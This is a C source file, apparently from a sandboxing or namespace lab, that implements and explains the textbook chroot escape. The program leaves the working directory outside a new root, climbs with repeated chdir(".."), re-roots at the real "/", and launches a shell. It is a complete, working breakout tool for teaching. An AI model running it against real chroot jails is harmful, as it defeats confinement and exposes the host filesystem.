/* escape.c: the textbook chroot escape, for teaching.
 *
 *   usage: escape [SHELL [ARG...]]      (default SHELL: /bin/sh)
 *
 * chroot(2) changes which directory "/" means for this process, and nothing else: it does not
 * change the current working directory, and it does not stop ".." from being followed. The
 * kernel only stops ".." at the process root when the walk *reaches* that root. So:
 *
 *   1. mkdir("nslab-escape")            a directory below where we stand
 *   2. chroot("nslab-escape")           our root is now below our cwd: the cwd is outside it
 *   3. chdir("..") again and again      never passes our root, so it climbs to the real "/"
 *   4. chroot(".")                      make the real "/" our root again
 *   5. execv(SHELL)                     a shell that sees the whole outer filesystem
 *
 * coreutils chroot(1) always does chdir("/") after chroot(), which is exactly what closes this
 * hole; that is why this needs its own small program. It needs CAP_SYS_CHROOT, and it finds
 * nothing above a root that came from pivot_root(2) once the old root is unmounted.
 *
 * Written in the style of bubblewrap: one system call per line, every failure fatal and named.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

#define ESCAPE_DIR "nslab-escape"
#define CLIMB_STEPS 1000

/* strerrorname_np() is glibc-only (2.32+); a table keeps this building against musl too. */
static const char *
errno_name (int err)
{
  switch (err)
    {
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EIO: return "EIO";
    case E2BIG: return "E2BIG";
    case ENOEXEC: return "ENOEXEC";
    case ENOMEM: return "ENOMEM";
    case EACCES: return "EACCES";
    case EFAULT: return "EFAULT";
    case EBUSY: return "EBUSY";
    case EEXIST: return "EEXIST";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case EINVAL: return "EINVAL";
    case ENOSPC: return "ENOSPC";
    case EROFS: return "EROFS";
    case EMLINK: return "EMLINK";
    case ENAMETOOLONG: return "ENAMETOOLONG";
    case ELOOP: return "ELOOP";
    case EDQUOT: return "EDQUOT";
    default: return "E?";
    }
}

/* Print "escape: <call> failed: ENAME (message)" and exit, like bubblewrap's die_with_error(). */
static void
die_with_error (const char *call)
{
  int err = errno;
  fprintf (stderr, "escape: %s failed: %s (%s)\n", call, errno_name (err), strerror (err));
  exit (1);
}

static void
step (const char *what)
{
  fprintf (stderr, "escape: %s\n", what);
}

int
main (int argc, char **argv)
{
  char *default_argv[] = { "/bin/sh", NULL };
  char **shell_argv = argc > 1 ? argv + 1 : default_argv;
  struct stat st;
  int i;

  /* 1. A directory below the current one. It may be left from an earlier run: reuse it. */
  step ("mkdir(\"" ESCAPE_DIR "\")");
  if (mkdir (ESCAPE_DIR, 0755) != 0)
    {
      if (errno != EEXIST)
        die_with_error ("mkdir(\"" ESCAPE_DIR "\")");
      if (lstat (ESCAPE_DIR, &st) != 0)
        die_with_error ("lstat(\"" ESCAPE_DIR "\")");
      if (!S_ISDIR (st.st_mode))
        {
          errno = ENOTDIR;
          die_with_error ("mkdir(\"" ESCAPE_DIR "\")");
        }
    }

  /* 2. Make it our root, and deliberately do NOT chdir() into it: chroot(2) leaves the cwd
   *    where it was, which is now outside (above) our own root. */
  step ("chroot(\"" ESCAPE_DIR "\"), without chdir: the cwd is now outside the new root");
  if (chroot (ESCAPE_DIR) != 0)
    die_with_error ("chroot(\"" ESCAPE_DIR "\")");

  /* 3. The kernel stops ".." only at the process root. Walking up from outside it never meets
   *    it, so we climb until ".." of the real "/" is "/" itself; extra steps are harmless. */
  fprintf (stderr, "escape: chdir(\"..\") x %d\n", CLIMB_STEPS);
  for (i = 0; i < CLIMB_STEPS; i++)
    {
      if (chdir ("..") != 0)
        die_with_error ("chdir(\"..\")");
    }

  /* 4. The cwd is now the outermost "/" this process can reach: make it the root. */
  step ("chroot(\".\")");
  if (chroot (".") != 0)
    die_with_error ("chroot(\".\")");

  /* Tidy: start the shell at the (new) root, not at a directory with no name. */
  if (chdir ("/") != 0)
    die_with_error ("chdir(\"/\")");

  /* 5. Run the shell in the escaped root. */
  fprintf (stderr, "escape: execv(\"%s\")\n", shell_argv[0]);
  execv (shell_argv[0], shell_argv);
  {
    int err = errno;
    char call[4096];
    snprintf (call, sizeof call, "execv(\"%s\")", shell_argv[0]);
    errno = err;
    die_with_error (call);
  }
  return 1;
}
